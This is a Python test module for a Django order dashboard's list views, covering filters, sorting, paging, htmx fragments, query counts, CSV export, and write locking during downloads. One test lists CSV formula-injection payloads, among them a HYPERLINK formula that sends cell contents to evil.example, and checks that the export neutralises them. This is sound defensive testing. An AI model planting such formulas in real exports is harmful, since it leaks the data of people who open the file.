"""The shared list machinery: filters, sorting, paging, htmx regions, CSV export, query counts."""

import csv
import io
import sqlite3
import threading
import time
from contextlib import closing
from datetime import timedelta
from decimal import Decimal

import pytest
from django.db import OperationalError, connection
from django.utils import timezone

from dashboard.ui import export, lists
from orders import services
from orders.models import Customer, LedgerEntry, Payment, Product
from orders.tests.factories import key, make_admin, make_customer, make_product, place

pytestmark = pytest.mark.django_db


@pytest.fixture
def admin_client(client):
    client.force_login(make_admin())
    return client


def csv_rows(response) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv") and response.streaming
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def shown(response) -> list:
    return list(response.context["table"].page.object_list.data)


class TestFiltersAndExport:
    def test_the_export_has_exactly_the_filtered_rows(self, admin_client):
        customer = make_customer("100")
        for _ in range(3):
            place(customer, make_product())
        make_customer("7")
        query = {"kind": "charge"}
        page = admin_client.get("/transactions/", query)
        rows = csv_rows(admin_client.get("/transactions/", {**query, "export": "csv"}))
        assert rows[0][:5] == ["Date", "Entry", "Customer", "Kind", "Amount"]
        assert len(rows) - 1 == page.context["table"].paginator.count == 3
        assert {row[1] for row in rows[1:]} == {entry.entry_no for entry in shown(page)}
        assert {row[3] for row in rows[1:]} == {"Order charge"}

    def test_search_by_entry_number_order_number_or_customer(self, admin_client):
        customer = make_customer("50")
        order = place(customer, make_product())
        charge = LedgerEntry.objects.get(order=order)
        assert [e.pk for e in shown(admin_client.get("/transactions/", {"q": charge.entry_no.lower()}))] == [charge.pk]
        assert [e.pk for e in shown(admin_client.get("/transactions/", {"q": order.order_no}))] == [charge.pk]
        assert len(shown(admin_client.get("/transactions/", {"q": customer.name}))) == 2

    def test_dates_are_inclusive_days(self, admin_client):
        customer = make_customer("50")
        old, new = place(customer, make_product()), place(customer, make_product())
        Payment.objects.filter(order=old).update(created_at=timezone.now() - timedelta(days=3))
        today = timezone.localdate().isoformat()
        three_days_ago = (timezone.localdate() - timedelta(days=3)).isoformat()
        orders_shown = lambda **q: [p.order_id for p in shown(admin_client.get("/payments/", q))]  # noqa: E731
        assert orders_shown(created_after=today, created_before=today) == [new.pk]
        assert orders_shown(created_before=three_days_ago) == [old.pk]
        assert orders_shown(created_after=three_days_ago, created_before=three_days_ago) == [old.pk]

    def test_payments_filter_by_method_status_and_amount(self, admin_client):
        customer = make_customer("100")
        cheap, dear = (
            place(customer, make_product(tiers=((1, "2.00"),))),
            place(customer, make_product(tiers=((1, "30.00"),))),
        )
        rows = shown(admin_client.get("/payments/", {"method": "balance", "status": "succeeded", "amount_min": "10"}))
        assert [p.order_id for p in rows] == [dear.pk]
        assert cheap.pk != dear.pk

    @pytest.mark.parametrize("query", [{"amount_min": "abc"}, {"created_after": "2026-13-45"}, {"kind": "bogus"}])
    def test_invalid_filters_are_422_with_the_error_and_no_rows(self, admin_client, query):
        make_customer("5")
        response = admin_client.get("/transactions/", query)
        assert response.status_code == 422 and response.context["filterset"].errors
        assert shown(response) == []
        assert admin_client.get("/transactions/", {**query, "export": "csv"}).status_code == 422

    def test_sorting_by_amount_both_ways(self, admin_client):
        customer = make_customer("100")
        for price in ("3.00", "1.00", "2.00"):
            place(customer, make_product(tiers=((1, price),)))
        amounts = lambda sort: [p.amount for p in shown(admin_client.get("/payments/", {"sort": sort}))]  # noqa: E731
        assert amounts("amount") == [Decimal("1.00"), Decimal("2.00"), Decimal("3.00")]
        assert amounts("-amount") == [Decimal("3.00"), Decimal("2.00"), Decimal("1.00")]


class TestRegions:
    def test_htmx_gets_only_the_table_and_a_history_restore_the_page(self, admin_client):
        make_customer("5")
        fragment = admin_client.get("/transactions/", {"kind": "top_up"}, headers={"HX-Request": "true"})
        assert fragment.text.lstrip().startswith('<div id="ledger-table"') and "<html" not in fragment.text
        assert "HX-Request" in fragment["Vary"]
        restore = admin_client.get(
            "/transactions/", headers={"HX-Request": "true", "HX-History-Restore-Request": "true"}
        )
        assert "<html" in restore.text

    def test_sort_and_page_links_keep_the_filters_and_work_without_javascript(self, admin_client):
        customer = make_customer("1000")
        for _ in range(30):
            place(customer, make_product())
        page = admin_client.get("/transactions/", {"kind": "charge"}).text
        assert 'href="?kind=charge&amp;page=2"' in page and 'hx-get="?kind=charge&amp;page=2"' in page
        assert 'hx-target="#ledger-table"' in page and 'hx-push-url="true"' in page
        assert 'href="?kind=charge&amp;sort=amount&amp;page=1"' in page
        assert 'href="?kind=charge&amp;export=csv"' in page

    def test_a_page_past_the_end_shows_the_last_page(self, admin_client):
        make_customer("5")
        response = admin_client.get("/transactions/", {"page": "999"})
        assert response.status_code == 200 and response.context["table"].page.number == 1
        assert admin_client.get("/transactions/", {"page": "x", "per_page": "7"}).status_code == 200


class TestCappedCount:
    def test_counts_stop_at_the_cap(self, admin_client, monkeypatch):
        monkeypatch.setattr(lists, "COUNT_CAP", 3)
        customer = make_customer("100")
        for _ in range(4):
            place(customer, make_product())
        response = admin_client.get("/transactions/", {"per_page": "25"})
        paginator = response.context["table"].paginator
        assert paginator.count == 3 and paginator.more
        assert "of 3+" in response.text and "narrow the filters" in response.text
        assert (
            len(csv_rows(admin_client.get("/transactions/", {"export": "csv"}))) - 1 == 5
        )  # the export is never capped


@pytest.mark.parametrize("url", ["/customers/", "/transactions/", "/payments/", "/levels/", "/products/", "/audit/"])
def test_a_page_costs_the_same_queries_whatever_its_size(admin_client, django_assert_max_num_queries, url):
    def grow():
        customer = make_customer("1000")
        for _ in range(3):
            place(customer, make_product())

    grow()
    with django_assert_max_num_queries(100) as small:
        admin_client.get(url, {"per_page": "100"})
    for _ in range(8):
        grow()
    with django_assert_max_num_queries(len(small.captured_queries)):
        response = admin_client.get(url, {"per_page": "100"})
    assert response.status_code == 200 and len(response.context["table"].page.object_list) > 8
    assert Payment.objects.count() >= 27


def test_exported_values_are_plain(admin_client):
    customer = make_customer("12.50")
    product = make_product(tiers=((1, "2.00"), (10, "1.50")))
    ((header, row),) = [csv_rows(admin_client.get("/customers/", {"export": "csv"}))]
    assert header == ["Username", "Name", "Mobile", "Level", "Balance", "Status"]
    # A mobile starts with "+": text, so it is written behind a quote like any text a spreadsheet would run.
    assert row == [customer.user.username, customer.name, f"'{customer.mobile}", customer.level.name, "12.50", "active"]
    products = csv_rows(admin_client.get("/products/", {"export": "csv"}))
    assert products[1] == [product.name, "from 1: CNY 2.00; from 10: CNY 1.50", "active"]
    ledger = csv_rows(admin_client.get("/transactions/", {"export": "csv"}))
    local = timezone.localtime(LedgerEntry.objects.get().created_at).strftime("%Y-%m-%d %H:%M:%S")
    assert ledger[1][0] == local and ledger[1][3] == "Top-up" and ledger[1][4] == "12.50" and ledger[1][6] == ""


FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+2", "-foo", "@SUM(A1:A9)", "\tcmd", "\rcmd"]


def test_formula_text_is_neutralised_and_numbers_stay_numbers(admin_client):
    """OWASP's CSV injection advice: text a spreadsheet would run starts with a quote."""
    customer = make_customer("100.00")
    Customer.objects.filter(pk=customer.pk).update(name="=1+1")
    for memo in FORMULAS:
        services.balance_top_up(customer=customer, amount=Decimal("1.00"), memo=memo, idempotency_key=key(), actor=None)
    services.balance_deduct(
        customer=customer, amount=Decimal("12.50"), memo="-12.50", idempotency_key=key(), actor=None
    )
    ledger = csv_rows(admin_client.get("/transactions/", {"sort": "created_at", "export": "csv"}))
    assert [row[7] for row in ledger[1:]] == ["", *("'" + memo for memo in FORMULAS), "'-12.50"]
    assert {row[2] for row in ledger[1:]} == {"'=1+1"}
    assert ledger[-1][4:6] == ["-12.50", "93.50"]
    product = make_product()
    Product.objects.filter(pk=product.pk).update(name="@cmd")
    assert csv_rows(admin_client.get("/products/", {"export": "csv"}))[1][0] == "'@cmd"


@pytest.fixture
def file_database(transactional_db, tmp_path):
    """On SQLite, the test database copied to a file for the test's length: the app's
    own connection settings (WAL, BEGIN IMMEDIATE) on a file with its single write
    lock. pytest-django's SQLite database lives in memory with a shared cache, whose
    locks are per table and nothing like production's. Elsewhere: the test database."""
    if connection.vendor != "sqlite":
        yield
        return
    connection.ensure_connection()
    memory = connection.settings_dict["NAME"]
    # An in-memory database lasts as long as a connection to it.
    keeper = sqlite3.connect(memory, uri=True)
    target = sqlite3.connect(tmp_path / "db.sqlite3")
    connection.connection.backup(target)
    target.close()
    # Every thread's connection is made from this same settings dict.
    connection.settings_dict["NAME"] = str(tmp_path / "db.sqlite3")
    connection.close()
    try:
        yield
    finally:
        connection.close()
        connection.settings_dict["NAME"] = memory
        connection.ensure_connection()
        keeper.close()


# A writer waits this long for a lock before giving up: short, so that a held lock fails
# the test in seconds rather than after the settings' 20 s.
LOCK_WAIT_SECONDS = 2
LOCK_WAIT = {
    "sqlite": f"PRAGMA busy_timeout = {LOCK_WAIT_SECONDS * 1000}",
    "postgresql": f"SET lock_timeout = '{LOCK_WAIT_SECONDS}s'",
}


def top_up_from_another_connection(customer) -> object:
    """A top-up in a thread of its own (so on a connection of its own): the entry it
    wrote, or the database error it met."""
    outcome = []

    def top_up() -> None:
        try:
            with connection.cursor() as cursor:
                cursor.execute(LOCK_WAIT[connection.vendor])
            outcome.append(
                services.balance_top_up(customer=customer, amount=Decimal("5.00"), idempotency_key=key(), actor=None)
            )
        except OperationalError as error:
            outcome.append(error)
        finally:
            connection.close()

    thread = threading.Thread(target=top_up)
    thread.start()
    thread.join(timeout=LOCK_WAIT_SECONDS * 10)
    assert not thread.is_alive(), "the top-up is stuck"
    return outcome[0]


# Like every transactional test in the suite, it restores the serialized database: a
# plain flush re-creates content types under new ids, which the next serialized test's
# rows then clash with.
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_a_download_in_progress_holds_up_no_write(file_database, client, monkeypatch):
    monkeypatch.setattr(export, "EXPORT_CHUNK", 1)
    client.force_login(make_admin())
    customer = make_customer("100")
    for _ in range(3):
        place(customer, make_product())
    before = set(LedgerEntry.objects.values_list("entry_no", flat=True))
    # Oldest first: a row written during the download would come after the rows read so far.
    with closing(client.get("/transactions/", {"export": "csv", "sort": "created_at"})) as response:
        download = iter(response.streaming_content)
        next(download), next(download)  # the header and a first row: a slow browser

        started = time.monotonic()
        entry = top_up_from_another_connection(customer)
        assert isinstance(entry, LedgerEntry), entry
        assert time.monotonic() - started < LOCK_WAIT_SECONDS

        rest = list(csv.reader(io.StringIO(b"".join(download).decode())))
    first = LedgerEntry.objects.filter(entry_no__in=before).order_by("created_at", "id").first()
    # The file is the ledger as it was when the download began.
    assert {row[1] for row in rest} | {first.entry_no} == before
